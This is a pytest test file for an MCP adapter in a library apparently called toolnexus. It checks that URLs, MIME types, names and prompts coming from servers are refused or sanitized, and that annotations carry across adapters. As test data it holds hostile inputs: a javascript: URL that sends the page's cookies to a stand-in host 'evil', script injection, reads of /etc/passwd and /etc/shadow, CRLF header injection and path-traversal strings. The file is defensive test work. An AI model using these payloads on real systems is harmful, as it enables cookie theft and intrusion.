"""`toolnexus.adapters.mcp` on what an MCP server may send a host: the URLs of links and of
URL-mode elicitations (only `http` and `https` reach a person or a provider), MIME types with
line breaks, names and prompts with bidi or terminal control characters; hostile payloads,
wire errors naming the path; part names that are never a path."""

from __future__ import annotations

import json
from typing import Any

import pytest

from toolnexus import WireError, pending_of
from toolnexus.adapters import from_mcp_call_tool_result


def _url_elicitation(url: str, message: str = "Sign in to continue") -> dict[str, Any]:
    return {
        "resultType": "input_required",
        "inputRequests": {
            "u": {
                "method": "elicitation/create",
                "params": {"mode": "url", "message": message, "url": url, "elicitationId": "e1"},
            }
        },
    }


def test_a_url_elicitation_with_an_https_url_is_an_authorization_request():
    request = pending_of(from_mcp_call_tool_result(_url_elicitation("https://example.com/login")))
    assert request is not None
    assert (request.kind, request.url) == ("authorization", "https://example.com/login")


@pytest.mark.parametrize(
    "url",
    [
        "javascript:fetch('//evil/'+document.cookie)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "example.com/login",
        "https://example.com/\u202emoc.elgoog",
        "https://example.com/\r\nSet-Cookie: a=b",
    ],
)
def test_a_url_elicitation_with_any_other_url_is_refused_at_its_path(url):
    with pytest.raises(WireError) as caught:
        from_mcp_call_tool_result(_url_elicitation(url))
    [(path, message)] = caught.value.errors
    assert path == '$.inputRequests["u"].params.url'
    assert "http or https" in message or "holds a" in message


def test_links_keep_http_and_https_decode_data_and_leave_out_the_rest_with_a_note():
    result = from_mcp_call_tool_result(
        {
            "content": [
                {"type": "text", "text": "Here is the report."},
                {
                    "type": "resource_link",
                    "uri": "javascript:alert(1)",
                    "name": "report.html",
                    "mimeType": "text/html",
                },
                {"type": "resource_link", "uri": "file:///etc/shadow", "name": "shadow"},
                {
                    "type": "resource_link",
                    "uri": "HTTPS://example.com/r.pdf",
                    "name": "r.pdf",
                    "mimeType": "application/pdf",
                },
                {"type": "resource_link", "uri": "data:text/html,%3Cb%3Ehi%3C%2Fb%3E", "name": "inline.html"},
            ]
        }
    )
    assert [(p.kind, p.url, p.mime_type, p.name) for p in result.parts] == [
        ("file", "HTTPS://example.com/r.pdf", "application/pdf", "r.pdf"),
        ("file", "", "text/html", "inline.html"),
    ]
    assert result.parts[1].raw() == b"<b>hi</b>"
    assert result.output == (
        "Here is the report.\n"
        "[resource_link 'report.html' left out: its URL is not an http, https or data: URL]\n"
        "[resource_link 'shadow' left out: its URL is not an http, https or data: URL]"
    )
    assert "javascript" not in result.output and "/etc/shadow" not in result.output


@pytest.mark.parametrize(
    ("block", "path"),
    [
        ({"type": "image", "data": "aGk=", "mimeType": "image/png\r\nX-Evil: 1"}, "$.content[0].mimeType"),
        ({"type": "audio", "data": "aGk=", "mimeType": "audio/wav\u0000"}, "$.content[0].mimeType"),
        ({"type": "image", "data": "aGk=", "mimeType": " "}, "$.content[0].mimeType"),
        (
            {
                "type": "resource",
                "resource": {"uri": "x:/a.bin", "mimeType": "application/pdf\n", "blob": "aGk="},
            },
            "$.content[0].resource.mimeType",
        ),
        (
            {
                "type": "resource_link",
                "uri": "https://example.com/a",
                "name": "a",
                "mimeType": "text/html\r\n",
            },
            "$.content[0].mimeType",
        ),
    ],
)
def test_a_mime_type_with_a_control_character_is_refused_at_its_path(block, path):
    with pytest.raises(WireError) as caught:
        from_mcp_call_tool_result({"content": [block]})
    assert [p for p, _ in caught.value.errors] == [path]


def test_names_show_control_and_bidi_formatting_characters_as_replacement_characters():
    result = from_mcp_call_tool_result(
        {
            "content": [
                {"type": "resource_link", "uri": "https://example.com/a", "name": "invoice\u202egpj.exe"},
                {
                    "type": "resource",
                    "resource": {
                        "uri": "x:/dir/a%E2%80%AEfdp.exe",
                        "mimeType": "application/pdf",
                        "blob": "aGk=",
                    },
                },
                {"type": "resource", "resource": {"uri": "x:/dir/b%1B%5B2J.bin", "blob": "aGk="}},
            ]
        }
    )
    assert [p.name for p in result.parts] == ["invoice\ufffdgpj.exe", "a\ufffdfdp.exe", "b\ufffd[2J.bin"]


def test_prompts_shown_to_a_person_keep_lines_and_lose_terminal_and_bidi_controls():
    message = "Allow\u0000 this?\r\n\u001b[2J\u001b]0;owned\u0007Really \u009b31m\u202eeteled\ttab\rover"
    request = pending_of(
        from_mcp_call_tool_result(
            {
                "resultType": "input_required",
                "inputRequests": {
                    "f": {
                        "method": "elicitation/create",
                        "params": {"mode": "form", "message": message, "requestedSchema": {}},
                    },
                    "x": {"method": "weird/\u001b[31mmethod", "params": {}},
                },
            }
        )
    )
    assert request is not None
    assert request.prompt == (
        "Allow\ufffd this?\n\ufffd[2J\ufffd]0;owned\ufffdReally \ufffd31m\ufffdeteled\ttab\ufffdover\n"
        "[the server asks for weird/\ufffd[31mmethod]"
    )
    # What the server sent is kept as it was for the retry, in data["mcp"].
    assert request.data["mcp"]["inputRequests"]["f"]["params"]["message"] == message


# -- MCP: hostile CallToolResult payloads ----------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "path"),
    [
        (
            '{"content":[{"type":"resource","resource":{"uri":"http://[","blob":"AAAA"}}]}',
            "$.content[0].resource.uri",
        ),
        ('{"content":[],"structuredContent":{"score":NaN}}', "$.structuredContent"),
        ('{"content":[],"structuredContent":[Infinity]}', "$.structuredContent"),
    ],
    ids=["bad IPv6 host", "NaN", "Infinity"],
)
def test_hostile_mcp_payloads_are_wire_errors_naming_the_path(text: str, path: str) -> None:
    with pytest.raises(WireError) as info:
        from_mcp_call_tool_result(json.loads(text))
    assert info.value.path == path


@pytest.mark.parametrize(
    "tail",
    ["..%2F..%2F.ssh%2Fauthorized_keys", "..", "%2E%2E", "a%5C..%5C..%5Cwin.ini", "x/..%2f", "..%2F"],
)
def test_a_part_name_from_a_resource_uri_is_never_a_path(tail: str) -> None:
    uri = f"toolnexus://parts/0/{tail}"
    doc = {
        "content": [{"type": "resource", "resource": {"uri": uri, "blob": "AAAA", "mimeType": "text/plain"}}]
    }
    name = from_mcp_call_tool_result(doc).parts[0].name
    assert name is None or ("/" not in name and "\\" not in name and name not in (".", ".."))


# --- content annotations, and a resource link's title and description, both ways ------------------

from toolnexus import Annotations, ContentPart, ToolCallResult, ToolResult  # noqa: E402
from toolnexus.adapters import (  # noqa: E402
    anthropic_tool_result,
    gemini_function_response,
    mcp_call_tool_result,
    openai_chat_messages,
    openai_responses_output,
)

PNG = "iVBORw0KGgo="


def _annotated_result() -> ToolResult:
    return ToolResult(
        output="done",
        parts=[
            ContentPart("text", text="for you", annotations=Annotations(audience=["user"], priority=1)),
            ContentPart(
                "image",
                mime_type="image/png",
                data=PNG,
                annotations=Annotations(priority=0.5, last_modified="2026-07-28T10:00:00Z"),
            ),
            ContentPart(
                "audio",
                mime_type="audio/wav",
                data="UklGRg==",
                annotations=Annotations(audience=["assistant"]),
            ),
            ContentPart(
                "file",
                mime_type="application/pdf",
                data="JVBERg==",
                name="r.pdf",
                title="Report",
                annotations=Annotations(priority=0),
            ),
            ContentPart(
                "file",
                mime_type="application/pdf",
                url="https://example.com/q3.pdf",
                name="q3.pdf",
                title="Quarterly report",
                description="Revenue and costs for Q3",
                annotations=Annotations(audience=["user", "assistant"], priority=0.25),
            ),
        ],
    )


def test_served_blocks_carry_annotations_and_a_link_its_title_and_description():
    content = mcp_call_tool_result(_annotated_result())["content"]
    assert content[0] == {"type": "text", "text": "done"}  # the output's own block has none
    assert content[1] == {
        "type": "text",
        "text": "for you",
        "annotations": {"audience": ["user"], "priority": 1},
    }
    assert content[2]["annotations"] == {"priority": 0.5, "lastModified": "2026-07-28T10:00:00Z"}
    assert content[3]["annotations"] == {"audience": ["assistant"]}
    # An embedded resource has no title or description in MCP: only its annotations travel.
    assert content[4]["type"] == "resource" and content[4]["annotations"] == {"priority": 0}
    assert "title" not in content[4] and "title" not in content[4]["resource"]
    assert content[5] == {
        "type": "resource_link",
        "uri": "https://example.com/q3.pdf",
        "name": "q3.pdf",
        "title": "Quarterly report",
        "description": "Revenue and costs for Q3",
        "mimeType": "application/pdf",
        "annotations": {"audience": ["user", "assistant"], "priority": 0.25},
    }
    # A served result is what the MCP SDK's own types accept, annotations included.
    import mcp_types

    checked = mcp_types.CallToolResult.model_validate(mcp_call_tool_result(_annotated_result()))
    assert checked.content[5].title == "Quarterly report"
    assert checked.content[1].annotations.audience == ["user"]


def test_consumed_blocks_keep_annotations_title_and_description():
    result = from_mcp_call_tool_result(mcp_call_tool_result(_annotated_result()))
    # The annotated text block stays a text part with its annotations, out of the output.
    assert result.output == "done"
    text, image, audio, document, link = result.parts
    assert (text.kind, text.text, text.annotations.audience) == ("text", "for you", ["user"])
    assert text.annotations.to_json() == '{"audience":["user"],"priority":1}'
    assert image.annotations.to_wire() == {"priority": 0.5, "lastModified": "2026-07-28T10:00:00Z"}
    assert audio.annotations.audience == ["assistant"]
    assert (document.name, document.title, document.annotations.to_json()) == ("r.pdf", "", '{"priority":0}')
    assert (link.url, link.title, link.description) == (
        "https://example.com/q3.pdf",
        "Quarterly report",
        "Revenue and costs for Q3",
    )
    assert link.annotations.to_json() == '{"audience":["user","assistant"],"priority":0.25}'


def test_a_served_and_consumed_result_round_trips_as_wire_json():
    original = _annotated_result()
    back = from_mcp_call_tool_result(mcp_call_tool_result(original))
    # Everything but the embedded file's title (which MCP has no place for) comes back.
    assert [p.to_json() for p in back.parts[:3]] == [p.to_json() for p in original.parts[:3]]
    assert back.parts[4].to_json() == original.parts[4].to_json()


def test_an_annotated_text_block_with_structured_content_is_not_replaced_by_the_structure():
    obj = {
        "content": [{"type": "text", "text": '{"a":1}', "annotations": {"priority": 0.9}}],
        "structuredContent": {"a": 1},
    }
    result = from_mcp_call_tool_result(obj)
    assert result.output == ""
    assert [p.text for p in result.parts] == ['{"a":1}']


def test_an_embedded_text_resource_with_annotations_is_a_text_part():
    obj = {
        "content": [
            {"type": "resource", "resource": {"uri": "file:///a.txt", "text": "plain"}},
            {
                "type": "resource",
                "resource": {"uri": "file:///b.txt", "text": "for the user"},
                "annotations": {"audience": ["user"]},
            },
        ]
    }
    result = from_mcp_call_tool_result(obj)
    assert result.output == "plain"
    assert [(p.text, p.annotations.audience) for p in result.parts] == [("for the user", ["user"])]


def test_a_data_link_keeps_its_title_description_and_annotations():
    link = {
        "type": "resource_link",
        "uri": "data:text/plain;base64,aGk=",
        "name": "hi.txt",
        "title": "Greeting",
        "description": "Says hi",
        "annotations": {"priority": 0.3},
    }
    [part] = from_mcp_call_tool_result({"content": [link]}).parts
    assert (part.raw(), part.title, part.description, part.annotations.priority) == (
        b"hi",
        "Greeting",
        "Says hi",
        0.3,
    )


def test_annotations_null_are_absent_and_unknown_keys_are_kept():
    blocks = [
        {"type": "text", "text": "a", "annotations": None},
        {"type": "image", "data": PNG, "mimeType": "image/png", "annotations": {"priority": 1, "x-new": [1]}},
    ]
    result = from_mcp_call_tool_result({"content": blocks})
    assert result.output == "a"
    [image] = result.parts
    assert image.annotations.to_json() == '{"priority":1,"x-new":[1]}'


@pytest.mark.parametrize(
    ("annotations", "path"),
    [
        ({"priority": 1.5}, "$.content[0].annotations.priority"),
        ({"priority": -0.1}, "$.content[0].annotations.priority"),
        ({"priority": "high"}, "$.content[0].annotations.priority"),
        ({"audience": ["everyone"]}, "$.content[0].annotations.audience[0]"),
        ({"audience": "user"}, "$.content[0].annotations.audience"),
        ({"lastModified": 5}, "$.content[0].annotations.lastModified"),
        ([], "$.content[0].annotations"),
    ],
)
def test_malformed_annotations_are_a_wire_error_at_their_mcp_path(annotations: Any, path: str):
    block = {"type": "image", "data": PNG, "mimeType": "image/png", "annotations": annotations}
    with pytest.raises(WireError) as info:
        from_mcp_call_tool_result({"content": [block]})
    assert [p for p, _ in info.value.errors] == [path]


@pytest.mark.parametrize(("key", "value"), [("title", 5), ("description", ["x"])])
def test_a_link_title_or_description_that_is_not_a_string_is_a_wire_error(key: str, value: Any):
    link = {"type": "resource_link", "uri": "https://example.com/a", "name": "a", key: value}
    with pytest.raises(WireError) as info:
        from_mcp_call_tool_result({"content": [link]})
    assert [p for p, _ in info.value.errors] == [f"$.content[0].{key}"]


def test_a_link_title_and_description_are_made_displayable():
    link = {
        "type": "resource_link",
        "uri": "https://example.com/a",
        "name": "a",
        "title": "inv\u202eoice",
        "description": "line one\nline \x1b[31mtwo",
    }
    [part] = from_mcp_call_tool_result({"content": [link]}).parts
    assert (part.title, part.description) == ("inv\ufffdoice", "line one\nline \ufffd[31mtwo")


# --- what the provider adapters do with them: a part for the user alone never reaches the model ---


def _call() -> ToolCallResult:
    return ToolCallResult("c1", "t", _annotated_result())


def test_openai_chat_leaves_out_a_part_for_the_user_alone():
    [tool, user] = openai_chat_messages(_call())
    assert "for you" not in tool["content"]
    assert len(user["content"]) == 4  # the intro, the image, the audio, the file; not the text


def test_openai_responses_leaves_out_a_part_for_the_user_alone():
    items = openai_responses_output(_call())["output"]
    assert all(item.get("text") != "for you" for item in items)
    only_user = ToolResult(output="x", parts=[_annotated_result().parts[0]])
    assert openai_responses_output(ToolCallResult("c", "t", only_user))["output"] == "x"


def test_anthropic_leaves_out_a_part_for_the_user_alone_and_titles_documents():
    content = anthropic_tool_result(_call())["content"]
    assert {"type": "text", "text": "for you"} not in content
    [document] = [b for b in content if b["type"] == "document" and b["source"]["type"] == "base64"]
    assert document["title"] == "Report"
    [linked] = [b for b in content if b["type"] == "document" and b["source"]["type"] == "url"]
    assert (linked["title"], linked["context"]) == ("Quarterly report", "Revenue and costs for Q3")


def test_gemini_leaves_out_a_part_for_the_user_alone():
    response = gemini_function_response(_call())["function_response"]
    assert response["response"] == {"output": "done"}
    assert len(response["parts"]) == 4


def test_an_audience_naming_the_assistant_or_none_reaches_the_model():
    parts = [
        ContentPart("text", text="both", annotations=Annotations(audience=["user", "assistant"])),
        ContentPart("text", text="model", annotations=Annotations(audience=["assistant"])),
        ContentPart("text", text="none", annotations=Annotations(priority=0.1)),
    ]
    [tool] = openai_chat_messages(ToolCallResult("c", "t", ToolResult(output="", parts=parts)))
    assert tool["content"] == "both\nmodel\nnone"


def test_an_accepted_form_holds_the_defaults_of_the_fields_its_answer_leaves_out() -> None:
    from toolnexus import Answer, Request
    from toolnexus.adapters import mcp_input_responses
    from toolnexus.adapters.mcp import form_defaults

    schema = {
        "type": "object",
        "properties": {"city": {"type": "string"}, "seats": {"type": "integer", "default": 2}},
    }
    asks = "elicitation/create"
    form = {"method": asks, "params": {"mode": "form", "message": "?", "requestedSchema": schema}}
    link = {"method": asks, "params": {"mode": "url", "message": "?", "url": "https://a.example"}}
    one = Request("input", "?", id="pnd-1", data={"mcp": {"inputRequests": {"trip": form}}})
    assert form_defaults(one) == {"seats": 2}
    sent = mcp_input_responses(one, Answer("pnd-1", True, {"city": "Rome"}))["inputResponses"]["trip"]
    assert sent == {"action": "accept", "content": {"seats": 2, "city": "Rome"}}
    sent = mcp_input_responses(one, Answer("pnd-1", True, {"seats": 5}))["inputResponses"]["trip"]
    assert sent["content"] == {"seats": 5}  # what the answer holds wins
    refused = Answer("pnd-1", False, reason="declined")
    assert mcp_input_responses(one, refused)["inputResponses"]["trip"] == {"action": "decline"}
    three = {"a": form, "b": form, "c": link}
    two = Request("input", "?", id="pnd-2", data={"mcp": {"inputRequests": three}})
    assert form_defaults(two) == {"a": {"seats": 2}, "b": {"seats": 2}}
    sent = mcp_input_responses(two, Answer("pnd-2", True, {"a": {"seats": 1}}))["inputResponses"]
    assert sent == {
        "a": {"action": "accept", "content": {"seats": 1}},
        "b": {"action": "accept", "content": {"seats": 2}},
        "c": {"action": "accept"},
    }
    own = Request("input", "?", id="pnd-3", data={"schema": schema})  # a toolnexus tool's own form
    assert form_defaults(own) == {"seats": 2}
    assert form_defaults(Request("input", "?", id="pnd-4")) == {}
